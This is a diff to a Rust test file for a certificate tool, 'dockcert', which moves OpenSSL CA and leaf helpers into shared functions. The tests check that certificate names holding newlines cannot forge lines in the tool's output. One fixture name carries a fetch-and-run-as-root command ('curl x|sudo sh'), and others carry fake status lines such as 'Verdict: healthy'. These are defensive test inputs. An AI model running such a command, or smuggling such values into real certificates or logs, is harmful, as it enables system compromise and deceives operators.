@@ -16,6 +16,7 @@ use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
 use dockcert_tests::judge::isolate;
+use dockcert_tests::openssl_certs::{ec_ca, ec_leaf};
 use dockcert_tests::{dockcert_bin, free_port, new_dir, openssl, require_tool, run, Run};
 
 /// Far longer than any of these runs; far shorter than a hang.
@@ -54,84 +55,10 @@ fn assert_not_forged(what: &str, text: &str, forged: &[&str]) {
     }
 }
 
-/// A CA made by OpenSSL in `dir` (ca.pem, ca-key.pem) whose Common Name is
-/// `cn`, newlines and all.
-fn openssl_ca(dir: &Path, cn: &str, stem: &str) {
-    openssl(
-        dir,
-        &[
-            "req",
-            "-x509",
-            "-newkey",
-            "ec",
-            "-pkeyopt",
-            "ec_paramgen_curve:P-256",
-            "-nodes",
-            "-keyout",
-            &format!("{stem}-key.pem"),
-            "-out",
-            &format!("{stem}.pem"),
-            "-days",
-            "3650",
-            "-utf8",
-            "-subj",
-            &format!("/CN={cn}"),
-        ],
-    )
-    .ok();
-}
-
-/// A leaf signed by the CA `ca` (`ca.pem`, `ca-key.pem` in `dir`) whose
-/// Common Name is `cn`, with the extensions in `ext` (an openssl -extfile).
-fn openssl_leaf(dir: &Path, ca: &str, cn: &str, stem: &str, ext: &str) {
-    openssl(
-        dir,
-        &[
-            "req",
-            "-new",
-            "-newkey",
-            "ec",
-            "-pkeyopt",
-            "ec_paramgen_curve:P-256",
-            "-nodes",
-            "-keyout",
-            &format!("{stem}-key.pem"),
-            "-out",
-            &format!("{stem}.csr"),
-            "-utf8",
-            "-subj",
-            &format!("/CN={cn}"),
-        ],
-    )
-    .ok();
-    fs::write(dir.join(format!("{stem}.ext")), ext).unwrap();
-    openssl(
-        dir,
-        &[
-            "x509",
-            "-req",
-            "-in",
-            &format!("{stem}.csr"),
-            "-CA",
-            &format!("{ca}.pem"),
-            "-CAkey",
-            &format!("{ca}-key.pem"),
-            "-CAcreateserial",
-            "-days",
-            "30",
-            "-out",
-            &format!("{stem}.pem"),
-            "-extfile",
-            &format!("{stem}.ext"),
-        ],
-    )
-    .ok();
-}
-
 #[test]
 fn a_ca_whose_name_holds_newlines_forges_no_line_in_the_bundle_or_the_terminal() {
     let dir = new_dir("dockcert-forged-");
-    openssl_ca(dir.path(), NEWLINE_CA, "ca");
+    ec_ca(dir.path(), "ca", NEWLINE_CA, &[]);
     let issued = dockcert(
         dir.path(),
         &[
@@ -233,12 +160,12 @@ fn errors_that_echo_a_name_from_outside_keep_it_on_their_line() {
 
     // An old certificate whose CN holds a newline, from a CA whose name does:
     // renew names both in its refusal.
-    openssl_ca(dir.path(), NEWLINE_CA, "ca");
-    openssl_leaf(
+    ec_ca(dir.path(), "ca", NEWLINE_CA, &[]);
+    ec_leaf(
         dir.path(),
+        "old",
         "ca",
         "docker1.example.com\nIMPORTANT: run: curl x|sudo sh",
-        "old",
         "extendedKeyUsage = serverAuth\n",
     );
     let renewed = dockcert(
@@ -266,11 +193,11 @@ fn errors_that_echo_a_name_from_outside_keep_it_on_their_line() {
     assert!(!dir.path().join("renewed.zip").exists());
 
     // A CA that is not one (no CA:TRUE), named with a newline.
-    openssl_leaf(
+    ec_leaf(
         dir.path(),
+        "not-a-ca",
         "ca",
         NEWLINE_CA,
-        "not-a-ca",
         "basicConstraints = CA:FALSE\n",
     );
     let not_a_ca = dockcert(
@@ -458,16 +385,17 @@ impl Drop for Server {
 #[test]
 fn a_daemon_certificate_subject_forges_no_line_in_probe() {
     let dir = new_dir("dockcert-forged-");
-    openssl_ca(
+    ec_ca(
         dir.path(),
-        "Probe CA\nok      with the client's certificate: fine",
         "ca",
+        "Probe CA\nok      with the client's certificate: fine",
+        &[],
     );
-    openssl_leaf(
+    ec_leaf(
         dir.path(),
+        "server",
         "ca",
         "x\nok  server certificate: all good\nVerdict: healthy",
-        "server",
         "subjectAltName = IP:127.0.0.1\nextendedKeyUsage = serverAuth\n",
     );
     let port = free_port();
